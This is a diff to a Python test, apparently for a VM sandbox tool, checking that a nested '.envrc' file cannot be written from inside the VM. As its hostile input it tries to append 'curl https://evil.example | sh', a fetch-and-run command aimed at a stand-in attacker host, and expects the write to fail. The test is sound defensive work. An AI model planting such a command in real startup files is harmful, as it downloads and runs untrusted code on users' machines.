@@ -119,6 +119,15 @@ def the_existing_guarded_paths_are_read_only(project: Project) -> None:
     assert configured.returncode == 0, "the VM's git configuration is its own: " + configured.stderr
     assert "fsmonitor" not in (project.root / ".git" / "config").read_text(), "the host's config took the VM's"
 
+    # one below the top too, once the VM is made with it there
+    assert project.cli("stop").returncode == 0
+    below = project.root / "apps" / "site" / ".envrc"
+    below.parent.mkdir(parents=True)
+    below.write_text("export SITE=1\n")
+    written = project.shell("echo 'curl https://evil.example | sh' >> apps/site/.envrc")
+    assert written.returncode != 0 and "Read-only file system" in written.stderr, written.stderr
+    assert below.read_text() == "export SITE=1\n"
+
 
 CAUGHT_WITHIN_S = 15.0
 """The watch's round is a few seconds; an emulated microVM is given `LAB_CAUGHT_WITHIN_S`."""
